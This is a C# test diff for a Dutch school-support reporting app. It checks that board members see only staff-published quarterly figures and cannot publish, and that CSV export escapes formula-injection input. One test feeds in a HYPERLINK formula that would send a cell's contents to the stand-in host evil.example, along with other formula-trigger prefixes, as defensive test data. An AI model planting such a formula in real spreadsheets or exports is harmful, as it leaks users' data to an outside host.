@@ -62,6 +62,81 @@ public sealed class BoardReportTests(Apps apps) : IClassFixture<Apps>
         Assert.Equal(HttpStatusCode.NotFound, (await staff.Client.GetAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K9"))).StatusCode);
     }
 
+    [Theory, MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
+    public async Task The_board_reads_only_what_staff_published_and_a_new_contact_does_not_move_it(string provider)
+    {
+        var app = await apps.ForAsync(provider);
+        var (tenant, po, _) = await SeedFixtureAsync(app);
+        var board = await app.SignInAsync(await BoardMemberAsync(app, tenant, po), tenant);
+
+        // Nothing published yet: the board sees that, not the live figures.
+        var before = Html.Text(await board.GetStringAsync(tenant.Path("/rapportage")));
+        Assert.Contains("nog geen rapportage gepubliceerd", before, StringComparison.Ordinal);
+        var asked = Html.Text(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3")));
+        Assert.Contains("nog geen rapportage gepubliceerd", asked, StringComparison.Ordinal);
+        Assert.DoesNotContain("contacten", asked, StringComparison.Ordinal);
+
+        var staff = await PublishAsync(app, tenant, po, "2026-K3");
+        // Only published periods can be chosen; another one is not there.
+        Assert.Equal(HttpStatusCode.NotFound, (await board.GetAsync(tenant.Path("/rapportage?periode=2026-K2"))).StatusCode);
+        Assert.Contains("15 contacten", Squeezed(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"))), StringComparison.Ordinal);
+
+        // One more contact in that quarter: staff see it at once, the board does not (until staff publish again).
+        await app.WithDbAsync(tenant.Id, async db =>
+        {
+            db.Cases.Add(new SupportCase { ReceivedAt = s_q3.AddDays(3), Channel = Channel.Telefoon, Phase = SchoolPhases.PO, Sector = "PO", Gemeente = "Zandvliet", LastActivityAt = s_q3 });
+            await db.SaveChangesAsync();
+        });
+        Assert.Contains("16 contacten", Squeezed(await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3"))), StringComparison.Ordinal);
+        Assert.Contains("15 contacten", Squeezed(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"))), StringComparison.Ordinal);
+        Assert.Contains("Kanaal;Telefoon;<5;0;", await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3&handler=Csv")), StringComparison.Ordinal);
+
+        // A board member cannot publish.
+        var page = await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"));
+        var attempt = await board.PostAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3&handler=Publish"), SteunpuntApp.FormFrom(await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3"))));
+        Assert.NotEqual(HttpStatusCode.Redirect, attempt.StatusCode);
+        Assert.DoesNotContain("Publiceer", Html.Text(page), StringComparison.Ordinal);
+        Assert.Contains("15 contacten", Squeezed(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"))), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_csv_cell_that_a_spreadsheet_would_run_is_kept_as_text()
+    {
+        Assert.Equal("'=1+2", PublishedReport.CsvCell("=1+2"));
+        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"klik\"\")\"", PublishedReport.CsvCell("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")"));
+        Assert.Equal("'+7", PublishedReport.CsvCell("+7"));
+        Assert.Equal("'-1", PublishedReport.CsvCell("-1"));
+        Assert.Equal("'@SUM(A1)", PublishedReport.CsvCell("@SUM(A1)"));
+        Assert.Equal("'\tkop", PublishedReport.CsvCell("\tkop"));
+        Assert.Equal("\"'\rregel\"", PublishedReport.CsvCell("\rregel"));
+        Assert.Equal("Zandvliet", PublishedReport.CsvCell("Zandvliet"));
+        Assert.Equal("<5", PublishedReport.CsvCell("<5"));
+    }
+
+    private static string Squeezed(string html) => System.Text.RegularExpressions.Regex.Replace(Html.Text(html), @"\s+", " ");
+
+    /// <summary>A board member of the given SWV.</summary>
+    public static async Task<string> BoardMemberAsync(SteunpuntApp app, TestTenant tenant, Guid swv)
+    {
+        var email = await app.CreateAccountAsync(tenant, "Bestuurder", Steunpunt.Accounts.Policies.Board);
+        await app.WithDbAsync(null, async db =>
+        {
+            (await db.Users.SingleAsync(u => u.Email == email)).PartnershipId = swv;
+            await db.SaveChangesAsync();
+        });
+        return email;
+    }
+
+    /// <summary>A staff member publishes the report of one SWV and period for the board.</summary>
+    public static async Task<StaffSession> PublishAsync(SteunpuntApp app, TestTenant tenant, Guid swv, string period)
+    {
+        var staff = await app.SignInAsStaffAsync(tenant);
+        var page = await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={swv}&periode={period}"));
+        var published = await staff.Client.PostAsync(tenant.Path($"/rapportage?swv={swv}&periode={period}&handler=Publish"), SteunpuntApp.FormFrom(page));
+        Assert.Equal(HttpStatusCode.Redirect, published.StatusCode);
+        return staff;
+    }
+
     private static void AssertRows(PublishedReport.Dimension d, params (string Label, string Shown)[] expected) =>
         Assert.Equal(expected.OrderBy(e => e.Label, StringComparer.Ordinal), d.Rows.Select(r => (r.Label, r.Now.Text)).OrderBy(e => e.Label, StringComparer.Ordinal));
 
